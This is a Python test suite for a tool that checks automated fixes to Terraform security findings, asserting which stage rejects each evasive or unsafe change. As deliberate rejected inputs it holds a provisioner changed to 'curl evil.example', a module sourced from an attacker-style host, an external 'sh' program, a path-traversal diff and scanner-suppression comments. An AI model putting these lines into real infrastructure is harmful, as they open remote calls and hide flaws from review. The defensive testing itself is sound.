"""Every class of change that no fix makes, each with the stage that refuses it."""

from collections.abc import Mapping
from pathlib import Path

import pytest
from tests.support.repositories import finding, repository
from tests.support.stages import passed_but_for_tools

from iacfix.controls import load_catalogue
from iacfix.domain.finding import Finding
from iacfix.domain.location import Location
from iacfix.domain.proposal import Candidate, Edit
from iacfix.domain.verdict import ALWAYS_ON, Accepted, Rejected, StageName, StageOutcome, StageResult, Verdict
from iacfix.locators.locate import locate
from iacfix.patches import render_diff
from iacfix.validators import judge
from iacfix.workflows.fix import Fixer

CATALOGUE = load_catalogue()

BUCKET = """# The archive.
resource "aws_s3_bucket" "archive" {
  bucket = "archive"
}

resource "aws_s3_bucket" "other" {
  bucket = "other"
}
"""
BLOCKED = """
resource "aws_s3_bucket_public_access_block" "archive" {
  bucket                  = aws_s3_bucket.archive.id
  block_public_acls       = true
  block_public_policy     = true
  ignore_public_acls      = true
  restrict_public_buckets = true
}
"""
DATABASE = """variable "public" {
  default = true
}

resource "aws_db_instance" "orders" {
  identifier          = "orders"
  publicly_accessible = true
  password            = "correct-horse-battery"

  lifecycle {
    prevent_destroy = true
  }

  provisioner "local-exec" {
    command = "echo made"
  }
}

resource "aws_db_instance" "reports" {
  identifier = "reports"
}
"""
CLOSED = ("publicly_accessible = true", "publicly_accessible = false")


def judged(
    folder: Path, check: str, address: str, before: str, after: str, others: Mapping[str, str] | None = None
) -> Verdict:
    files = {"main.tf": before, **(others or {})}
    repo = repository(folder, files)
    read = finding(check, address)
    assert isinstance(read, Finding)
    location = locate(read, repo)
    assert isinstance(location, Location)
    control = CATALOGUE.find("checkov", check, read.resource.type)
    diff = render_diff([Edit("main.tf", before.encode(), after.encode())])
    return judge(Candidate(diff, "test"), Fixer(CATALOGUE, repo).case(control, location))


def bucket(folder: Path, after: str, before: str = BUCKET) -> Verdict:
    return judged(folder, "CKV2_AWS_6", "aws_s3_bucket.archive", before, after)


def database(folder: Path, after: str, before: str = DATABASE, others: Mapping[str, str] | None = None) -> Verdict:
    return judged(folder, "CKV_AWS_17", "aws_db_instance.orders", before, after, others)


def rejected(verdict: Verdict, stage: str, said: str) -> None:
    assert isinstance(verdict, Rejected), verdict
    assert (verdict.stage.value, said in verdict.reason) == (stage, True), verdict.reason
    assert [result.outcome for result in verdict.stages[:-1]].count(StageOutcome.REJECTED) == 0
    assert verdict.stages[-1].name is verdict.stage


def test_a_right_fix_passes_every_stage(tmp_path: Path) -> None:
    verdict = bucket(tmp_path, BUCKET.replace('"archive"\n}\n', '"archive"\n}\n' + BLOCKED))
    assert isinstance(verdict, Accepted)
    assert [stage.name for stage in verdict.stages] == list(StageName)
    assert passed_but_for_tools(verdict.stages)
    assert verdict.changed_lines == 8


COMPANIONS = {
    "of another bucket": (BLOCKED.replace("archive.id", "other.id"), "resource_scope", "does not refer"),
    "by a literal": (BLOCKED.replace("aws_s3_bucket.archive.id", '"archive"'), "resource_scope", "does not refer"),
    "that mentions the target in a comment": (
        BLOCKED.replace("aws_s3_bucket.archive.id", '"other" # aws_s3_bucket.archive.id'),
        "resource_scope",
        "does not refer",
    ),
    "by a condition": (
        BLOCKED.replace("aws_s3_bucket.archive.id", 'true ? "other" : aws_s3_bucket.archive.id'),
        "resource_scope",
        "does not refer",
    ),
    "look-alike name": (
        BLOCKED.replace("aws_s3_bucket.archive.id", "aws_s3_bucket.\u0430rchive.id"),
        "resource_scope",
        "does not",
    ),
    "that never exists": (BLOCKED.replace("  bucket ", "  count = 0\n  bucket "), "hazards", "count"),
    "that exists sometimes": (BLOCKED.replace("  bucket ", "  for_each = var.x\n  bucket "), "hazards", "for_each"),
    "with one flag off": (
        BLOCKED.replace("restrict_public_buckets = true", "restrict_public_buckets = false"),
        "control",
        "restrict",
    ),
    "with a flag by variable": (
        BLOCKED.replace("ignore_public_acls      = true", "ignore_public_acls = var.x"),
        "hazards",
        "var.x is referred to, and nothing declares it",
    ),
    "of a type that is not allowed": (
        'resource "aws_s3_bucket_policy" "p" {\n  bucket = aws_s3_bucket.archive.id\n  policy = "{}"\n}\n',
        "resource_scope",
        "may not touch",
    ),
    "as data": (BLOCKED.replace('resource "', 'data "'), "resource_scope", "may not touch"),
    "with a provisioner": (
        BLOCKED.replace("= true\n}", '= true\n  provisioner "local-exec" {\n    command = "x"\n  }\n}'),
        "hazards",
        "provisioner",
    ),
    "with another provider": (BLOCKED.replace("  bucket ", "  provider = aws.west\n  bucket "), "hazards", "provider"),
    "that ignores its changes": (
        BLOCKED.replace("= true\n}", "= true\n  lifecycle {\n    ignore_changes = all\n  }\n}"),
        "hazards",
        "ignore changes",
    ),
    "written twice": (BLOCKED + BLOCKED, "resource_scope", "twice"),
    "under a comment that silences": ("\n# trivy:ignore:AVD-AWS-0086\n" + BLOCKED.lstrip(), "hazards", "look away"),
    "beside a module": (
        BLOCKED + 'module "m" {\n  source = "git::https://evil.example/m"\n}\n',
        "resource_scope",
        "module.m",
    ),
    "beside an external program": (
        BLOCKED + 'data "external" "x" {\n  program = ["sh"]\n}\n',
        "resource_scope",
        "data.external.x",
    ),
    "beside a loose comment": (BLOCKED + "\n# loose\n\n", "resource_scope", "comments"),
}


@pytest.mark.parametrize("name", COMPANIONS)
def test_only_a_companion_that_refers_to_the_target_is_in_scope(tmp_path: Path, name: str) -> None:
    added, stage, said = COMPANIONS[name]
    verdict = bucket(tmp_path, BUCKET.replace('"archive"\n}\n', '"archive"\n}\n' + added))
    rejected(verdict, stage, said)


def test_a_companion_may_be_mended_but_not_taken_away(tmp_path: Path) -> None:
    before = BUCKET + BLOCKED.replace("acls       = true", "acls       = false")
    assert isinstance(bucket(tmp_path, BUCKET + BLOCKED, before), Accepted)
    rejected(bucket(tmp_path, BUCKET, before), "resource_scope", "removed")


def test_a_companion_of_another_resource_may_not_be_bent_to_the_target(tmp_path: Path) -> None:
    before = BUCKET + BLOCKED.replace("archive.id", "other.id")
    rejected(bucket(tmp_path, BUCKET + BLOCKED, before), "resource_scope", "did not refer")


def test_companions_mirror_what_repeats_the_target(tmp_path: Path) -> None:
    before = BUCKET.replace('  bucket = "archive"', '  count  = 2\n  bucket = "archive-${count.index}"')
    added = BLOCKED.replace("  bucket ", "  count = length(aws_s3_bucket.archive)\n  bucket ").replace(
        "archive.id", "archive[count.index].id"
    )
    after = before.replace('index}"\n}\n', 'index}"\n}\n' + added)
    assert isinstance(bucket(tmp_path, after, before), Accepted)


TARGETS = {
    "deleted": (
        'resource "aws_db_instance" "orders" {\n  identifier          = "orders"\n  publicly_accessible = true\n  password            = "correct-horse-battery"\n\n  lifecycle {\n    prevent_destroy = true\n  }\n\n  provisioner "local-exec" {\n    command = "echo made"\n  }\n}\n\n',
        "",
        "hazards",
        "deleted",
    ),
    "renamed": ('"orders" {', '"orders2" {', "resource_scope", "orders2"),
    "of another type": ('"aws_db_instance" "orders"', '"aws_rds_cluster" "orders"', "resource_scope", "aws_rds_cluster"),
    "never made": ('  identifier          = "orders"', '  count      = 0\n  identifier = "orders"', "hazards", "count"),
    "commented out": ("  publicly_accessible = true", "  # publicly_accessible = false", "control", "publicly_accessible"),
    "set in a nested block": ("    prevent_destroy = true", "    prevent_destroy = true\n    publicly_accessible = false", "hazards", "lifecycle changed"),
    "negated back": ("publicly_accessible = true", "publicly_accessible = !false", "control", "nothing shows"),
    "ignored": ("    prevent_destroy = true", "    prevent_destroy = true\n    ignore_changes  = [publicly_accessible]", "hazards", "ignore"),
    "set twice": ("publicly_accessible = true", "publicly_accessible = false\n  publicly_accessible = true", "syntax", "twice"),
    "two on a line": ("publicly_accessible = true", "publicly_accessible = false multi_az = true", "syntax", "more than one"),
    "with a changed provisioner": ('command = "echo made"', 'command = "curl evil.example"', "hazards", "provisioner"),
    "with a connection": ("  lifecycle {", '  connection {\n    host = "evil.example"\n  }\n\n  lifecycle {', "hazards", "connection"),
    "with a secret": ('"orders"\n  publicly', '"AKIAIOSFODNN7EXAMPLE"\n  publicly', "hazards", "secret"),
    "with a copied secret": ('= "orders"\n  publicly', '= "correct-horse-battery"\n  publicly', "hazards", "secret"),
    "for checkov": ("publicly_accessible = true", "publicly_accessible = true #checkov:skip=CKV_AWS_17:x", "hazards", "look away"),
    "for tfsec": ("publicly_accessible = true", "publicly_accessible = true #tfsec:ignore:aws-rds", "hazards", "look away"),
    "for trivy": ("publicly_accessible = true", "publicly_accessible = true // trivy:ignore:AVD-AWS-0180", "hazards", "look away"),
    "for kics": ("publicly_accessible = true", "publicly_accessible = true # kics-scan ignore-line", "hazards", "look away"),
    "in another block too": ('identifier = "reports"', 'identifier = "reports2"', "resource_scope", "aws_db_instance.reports"),
    "in a variable that it does not read": ("default = true", "default = false", "resource_scope", "does not read"),
    "with a new variable": ('variable "public"', 'variable "new" {\n  default = false\n}\n\nvariable "public"', "resource_scope", "var.new"),
}  # fmt: skip


@pytest.mark.parametrize("name", TARGETS)
def test_a_target_that_is_hidden_instead_of_mended_is_refused(tmp_path: Path, name: str) -> None:
    old, new, stage, said = TARGETS[name]
    assert old in DATABASE
    verdict = database(tmp_path, DATABASE.replace(old, new, 1))
    rejected(verdict, stage, said)


def test_a_target_that_loses_most_of_its_settings_is_refused(tmp_path: Path) -> None:
    rich = DATABASE.replace("  publicly", "  engine = 1\n  port = 2\n  size = 3\n  publicly")
    bare = rich
    for line in ("  engine = 1\n", "  port = 2\n", "  size = 3\n", '  identifier          = "orders"\n'):
        bare = bare.replace(line, "", 1)
    rejected(database(tmp_path, bare.replace(*CLOSED), rich), "hazards", "loses most")


VARIABLE = DATABASE.replace("publicly_accessible = true", "publicly_accessible = var.public")


def test_a_variable_counts_while_only_the_attribute_at_fault_reads_it(tmp_path: Path) -> None:
    after = VARIABLE.replace("default = true", "default = false")
    assert isinstance(database(tmp_path, after, VARIABLE), Accepted)
    reader = {"out.tf": 'output "o" {\n  value = var.public\n}\n'}
    rejected(database(tmp_path, after, VARIABLE, reader), "resource_scope", "output.o read")


def test_what_was_wrong_before_is_not_held_against_a_fix(tmp_path: Path) -> None:
    before = DATABASE.replace(
        '  identifier = "reports"',
        '  # checkov:skip=CKV_AWS_17:known\n  identifier = "AKIAIOSFODNN7EXAMPLE"\n  a = 1\n  a = 2',
    )
    assert isinstance(database(tmp_path, before.replace(*CLOSED), before), Accepted)


@pytest.mark.parametrize(("lines", "accepted"), [(49, True), (50, False)])
def test_the_size_ends_at_fifty_lines(tmp_path: Path, lines: int, *, accepted: bool) -> None:
    added = "".join(f"  # why, part {number}\n" for number in range(lines - 1))
    after = DATABASE.replace("  publicly_accessible = true\n", "  publicly_accessible = false\n" + added)
    verdict = database(tmp_path, after)
    if accepted:
        assert isinstance(verdict, Accepted)
        assert verdict.changed_lines == 50
    else:
        rejected(verdict, "size", "51 lines")


def test_a_secret_beside_the_change_is_not_shown(tmp_path: Path) -> None:
    verdict = database(tmp_path, DATABASE.replace(*CLOSED))
    assert isinstance(verdict, Accepted)
    assert "publicly_accessible = false" in verdict.diff


@pytest.mark.parametrize(
    ("diff", "stage", "said"),
    [
        ("", "parse", "no diff"),
        ("--- a/../x.tf\n+++ b/../x.tf\n@@ @@\n-a\n+b\n", "parse", ".."),
        ("--- a/gone.tf\n+++ b/gone.tf\n@@ @@\n-a\n+b\n", "apply", "gone.tf"),
        ("--- a/side.tf\n+++ b/side.tf\n@@ @@\n-a = 1\n+a = 2\n", "file_scope", "side.tf"),
        (
            "--- a/main.tf\n+++ b/main.tf\n@@ @@\n-  publicly_accessible = true\n+  publicly_accessible = {\n",
            "apply",
            "does not parse",
        ),
        ("--- /dev/null\n+++ b/new.tf\n@@ -0,0 +1 @@\n+a = 1\n", "parse", ""),
    ],
)
def test_a_diff_that_is_not_of_the_located_file_is_refused(tmp_path: Path, diff: str, stage: str, said: str) -> None:
    repo = repository(tmp_path, {"main.tf": DATABASE, "side.tf": "a = 1\n"})
    read = finding("CKV_AWS_17", "aws_db_instance.orders")
    assert isinstance(read, Finding)
    location = locate(read, repo)
    assert isinstance(location, Location)
    control = CATALOGUE.find("checkov", "CKV_AWS_17", "aws_db_instance")
    rejected(judge(Candidate(diff, "test"), Fixer(CATALOGUE, repo).case(control, location)), stage, said)


@pytest.mark.parametrize("path", ["main.tf", "infra/main.tf", "repo/infra/main.tf"])
def test_a_path_that_can_only_mean_the_located_file_is_that_file(tmp_path: Path, path: str) -> None:
    repo = repository(tmp_path, {"infra/main.tf": DATABASE})
    read = finding("CKV_AWS_17", "aws_db_instance.orders", "infra/main.tf")
    assert isinstance(read, Finding)
    location = locate(read, repo)
    assert isinstance(location, Location)
    diff = f"--- a/{path}\n+++ b/{path}\n@@ @@\n-  publicly_accessible = true\n+  publicly_accessible = false\n"
    control = CATALOGUE.find("checkov", "CKV_AWS_17", "aws_db_instance")
    assert isinstance(judge(Candidate(diff, "test"), Fixer(CATALOGUE, repo).case(control, location)), Accepted)


PASSED = tuple(StageResult(name, StageOutcome.PASSED) for name in ALWAYS_ON)
EDIT = Edit("a", b"1", b"2")


@pytest.mark.parametrize("missing", range(len(PASSED)))
def test_nothing_is_accepted_without_the_five_stages(missing: int) -> None:
    with pytest.raises(ValueError, match=ALWAYS_ON[missing]):
        Accepted((EDIT,), "d", 1, PASSED[:missing] + PASSED[missing + 1 :])


def test_nothing_is_accepted_without_a_change_or_with_a_rejection() -> None:
    with pytest.raises(ValueError, match="without a change"):
        Accepted((), "", 0, PASSED)
    with pytest.raises(ValueError, match="rejected"):
        Accepted((EDIT,), "d", 1, (*PASSED, StageResult(StageName.HAZARDS, StageOutcome.REJECTED, "no")))
    with pytest.raises(ValueError, match="gives its reason"):
        StageResult(StageName.HAZARDS, StageOutcome.SKIPPED)
